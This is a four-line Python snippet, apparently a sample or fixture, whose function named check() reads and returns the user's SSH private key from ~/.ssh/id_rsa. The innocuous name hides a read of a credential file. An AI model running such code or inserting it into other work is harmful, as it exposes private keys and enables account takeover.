import os

def check():
    return open(os.path.expanduser("~/.ssh/id_rsa")).read()
